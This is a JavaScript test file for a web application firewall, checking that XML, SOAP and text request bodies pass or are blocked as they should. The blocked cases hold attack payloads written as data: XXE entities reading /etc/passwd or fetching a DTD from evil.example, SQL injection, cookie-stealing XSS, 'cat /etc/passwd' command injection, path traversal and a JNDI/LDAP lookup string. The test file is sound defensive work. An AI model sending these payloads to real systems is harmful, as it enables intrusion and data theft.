// Bodies no parser reads (XML, SOAP, text/plain, unknown textual types) through the Node host
// at Standard: XML text and attribute values are inspected as items (location body:<path>),
// other text as one item (location body); markup itself passes; XXE and injections inside XML
// are blocked; general.bodySize bounds the buffering; binary types stream uninspected.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { denyConfig, post, events } from "./support.js";
import { startFilter } from "../filter/support.js";

const SOAP = `<?xml version="1.0" encoding="UTF-8"?>
<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" xmlns:m="http://www.example.org/stock">
  <soap:Header><m:Auth soap:mustUnderstand="1">token-123</m:Auth></soap:Header>
  <soap:Body>
    <m:GetStockPrice><m:StockName>IBM</m:StockName><m:Note>select the best &amp; cheapest, O'Brien's pick</m:Note></m:GetStockPrice>
  </soap:Body>
</soap:Envelope>`;

const DOCUMENT = `<?xml version="1.0"?>
<!-- order export -->
<order id="A-1001" xmlns="urn:example:orders" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
  <customer><name>Ada O'Brien</name><email>ada@example.com</email></customer>
  <items>
    <item sku="SH-42" qty="2">Red running shoes, size 42 &lt;new&gt;</item>
    <item sku="SO-1" qty="1"><![CDATA[Socks "for" running & hiking]]></item>
  </items>
  <comment>Please deliver after 5pm; ring twice.</comment>
  <link href="https://shop.example.com/orders/A-1001?ref=mail&amp;lang=en"/>
</order>`;

const NOTE = "Meeting notes\n\n- select a venue for the offsite\n- drop the old backlog items\n- budget: 1+1 workshops, 5 people\nSee https://wiki.example.com/notes?id=42";

let standard;
before(async () => { standard = await startFilter(denyConfig()); });
after(() => standard.close());

const xml = (body, type = "application/xml") => post("/api/orders", type, body);

test("a SOAP request, an XML document and a plain-text note pass at Standard", async () => {
  for (const [what, req] of [
    ["SOAP 1.1", xml(SOAP, "text/xml; charset=utf-8")],
    ["SOAP 1.2", xml(SOAP, "application/soap+xml")],
    ["XML document", xml(DOCUMENT)],
    ["Atom feed", xml(`<feed xmlns="http://www.w3.org/2005/Atom"><title>News</title><entry><title>Hello &amp; welcome</title><link rel="alternate" href="https://news.example.com/1"/></entry></feed>`, "application/atom+xml")],
    ["text/plain note", post("/notes", "text/plain; charset=utf-8", NOTE)],
    ["CSV", post("/import", "text/csv", "name,city,comment\nAda,London,\"likes select cheeses\"\nBob,Paris,drop-off at 5\n")],
  ]) {
    const r = await standard.simulate(req);
    assert.equal(r.status, 200, `${what}: ${JSON.stringify(events(r)[0])}`);
    assert.equal(r.upstreamRequest.body.toString(), req.body, `${what} reaches the upstream unchanged`);
  }
});

test("XXE in the DOCTYPE is blocked, the location is the declaration", async () => {
  for (const doc of [
    `<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>`,
    `<?xml version="1.0"?><!DOCTYPE data [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]><data>1</data>`,
  ]) {
    const r = await standard.simulate(xml(doc));
    assert.equal(r.status, 400, doc);
    const [e] = events(r);
    // The file:/http: identifier is also an SSRF shape; either rule may be the first to block.
    assert.ok(["EXPLOIT", "SSRF"].includes(e.rule_key), `${doc}: ${e.rule_id}`);
    assert.equal(e.location, "body:!DOCTYPE");
    assert.equal(e.location_type, "Parameter");
    assert.equal(r.upstreamRequest?.body ?? null, null, "nothing reached the upstream");
  }
});

test("injections inside XML elements and attributes are blocked, entity-encoded too", async () => {
  const cases = [
    [`<user><name>1' UNION SELECT username, password FROM users--</name></user>`, "SQL", "body:/user/name"],
    [`<root><a probe="1' OR '1'='1' --"></a></root>`, "SQL", "body:/root/a/@probe"],
    [`<msg><text>&lt;script&gt;alert(document.cookie)&lt;/script&gt;</text></msg>`, "XSS", "body:/msg/text"],
    [`<cmd><arg><![CDATA[x; cat /etc/passwd]]></arg></cmd>`, "UNIXCMD", "body:/cmd/arg"],
    [`<f path="../../../../etc/passwd"/>`, "IDOR", "body:/f/@path"],
  ];
  for (const [doc, key, location] of cases) {
    const r = await standard.simulate(xml(`<?xml version="1.0"?>${doc}`));
    assert.equal(r.status, 400, doc);
    const [e] = events(r);
    assert.equal(e.rule_key, key, `${doc}: ${e.rule_id}`);
    assert.equal(e.location, location, doc);
  }
});

test("a text body is inspected whole (location body); ill-formed XML too", async () => {
  let r = await standard.simulate(post("/notes", "text/plain", "hello\n1' UNION SELECT username, password FROM users--"));
  assert.equal(r.status, 400);
  assert.equal(events(r)[0].location, "body");
  assert.equal(events(r)[0].rule_key, "SQL");
  // The scanner cannot follow "<a" without '>': the whole text is inspected instead of nothing.
  r = await standard.simulate(xml(`<a><b>x; cat /etc/passwd</b><c`));
  assert.equal(r.status, 400);
  assert.equal(events(r)[0].location, "body");
  // An unknown textual type, and XML sent as text/plain (sniffed from its declaration).
  r = await standard.simulate(post("/x", "application/x-custom", "${jndi:ldap://evil.example:1389/a}"));
  assert.equal(r.status, 400);
  r = await standard.simulate(post("/x", "text/plain", `<?xml version="1.0"?><q>1' UNION SELECT password FROM users--</q>`));
  assert.equal(r.status, 400);
  assert.equal(events(r)[0].location, "body:/q");
});

test("a chunked XML body is buffered and inspected whole", async () => {
  const doc = `<?xml version="1.0"?><user><name>${"a".repeat(3000)}</name><q>1' UNION SELECT username, password FROM users--</q></user>`;
  const buf = Buffer.from(doc);
  const chunks = [buf.subarray(0, 1000), buf.subarray(1000, 2900), buf.subarray(2900)];
  const r = await standard.simulate({ ...xml(undefined), body: undefined, chunks });
  assert.equal(r.status, 400);
  assert.equal(events(r)[0].location, "body:/user/q");
  // Split inside the payload: a streaming inspection of chunks would miss it.
  const ok = Buffer.from(DOCUMENT);
  const r2 = await standard.simulate({ ...xml(undefined), body: undefined, chunks: [ok.subarray(0, 100), ok.subarray(100)] });
  assert.equal(r2.status, 200);
  assert.equal(r2.upstreamRequest.body.toString(), DOCUMENT);
});

test("above general.bodySize the body is refused (general_body_size), not passed uninspected", async () => {
  const cfg = denyConfig();
  cfg.policies[0].limits = { ...(cfg.policies[0].limits ?? {}), general: { ...(cfg.policies[0].limits?.general ?? {}), bodySize: 1024 } };
  const f = await startFilter(cfg);
  try {
    const big = `<?xml version="1.0"?><doc>${"<p>plain words</p>".repeat(100)}</doc>`;
    const r = await f.simulate(xml(big));
    assert.equal(r.status, 400);
    const [e] = events(r);
    assert.equal(e.block_type, "limits");
    assert.equal(e.block_subtype, "general_body_size");
    const small = await f.simulate(xml(`<doc><p>plain words</p></doc>`));
    assert.equal(small.status, 200);
  } finally { f.close(); }
});

test("binary media types and policies without deny rules are not buffered", async () => {
  const r = await standard.simulate(post("/upload", "application/octet-stream", "x; cat /etc/passwd"));
  assert.equal(r.status, 200);
  const img = await standard.simulate(post("/upload", "image/png", "1' UNION SELECT password FROM users--"));
  assert.equal(img.status, 200);
  const f = await startFilter(denyConfig(null));
  try {
    const r2 = await f.simulate(xml(`<q>1' UNION SELECT password FROM users--</q>`));
    assert.equal(r2.status, 200);
  } finally { f.close(); }
});
